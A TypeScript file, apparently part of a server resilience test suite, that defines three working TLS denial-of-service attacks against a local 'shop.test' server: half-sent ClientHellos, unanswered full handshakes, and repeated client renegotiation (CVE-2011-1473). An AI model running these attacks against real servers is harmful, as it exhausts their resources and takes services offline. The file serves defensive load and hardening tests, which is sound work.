/** Clients of TLS that begin to shake hands and leave it at that, and one kind that wants to do it again and again. */
import { connect as connectTls } from "node:tls";
import { type BeginAttack, Crowd } from "./crowd.ts";

/** The first record of a ClientHello, cut off in the middle of it. */
const halfHello = Buffer.from("16030102000100", "hex");

/** Half of what a client says first, and then nothing. */
export const halfHandshakes: BeginAttack = ({ tlsPort, clients }) =>
  Crowd.gather({ port: tlsPort, clients, act: (socket) => socket.write(halfHello) });

/** All of what a client says first, and no answer to what the server says. */
export const unansweredHandshakes: BeginAttack = async ({ tlsPort, clients }) => {
  const hello = await captureHello();
  return await Crowd.gather({ port: tlsPort, clients, act: (socket) => socket.write(hello) });
};

/** What the platform's own client sends first. */
async function captureHello(): Promise<Buffer> {
  const { createServer } = await import("node:net");
  return await new Promise((resolve) => {
    const server = createServer((socket) => {
      socket.on("error", () => undefined);
      socket.once("data", (chunk) => {
        resolve(chunk);
        socket.destroy();
        server.close();
      });
    });
    server.listen(0, "127.0.0.1", () => {
      const address = server.address();
      const port = typeof address === "object" ? (address?.port ?? 0) : 0;
      connectTls({ host: "127.0.0.1", port, servername: "shop.test", rejectUnauthorized: false }).on(
        "error",
        () => undefined,
      );
    });
  });
}

const renegotiating = 20;

/** Shakes hands, and asks for more of it (CVE-2011-1473). */
export const renegotiations: BeginAttack = ({ tlsPort, clients }) =>
  Crowd.gather({
    port: tlsPort,
    clients: Math.min(clients, renegotiating),
    returnsAfterMs: 500,
    act: (socket, crowd) => {
      const tls = connectTls({ socket, servername: "shop.test", rejectUnauthorized: false, maxVersion: "TLSv1.2" });
      tls.on("error", () => undefined);
      const again = (): void => {
        if (tls.destroyed) return;
        tls.renegotiate({ rejectUnauthorized: false }, (cause) => {
          crowd.note(cause === null ? "renegotiated" : "renegotiation refused");
          if (cause === null) setImmediate(again);
          else tls.destroy();
        });
      };
      tls.once("secureConnect", again);
    },
  });
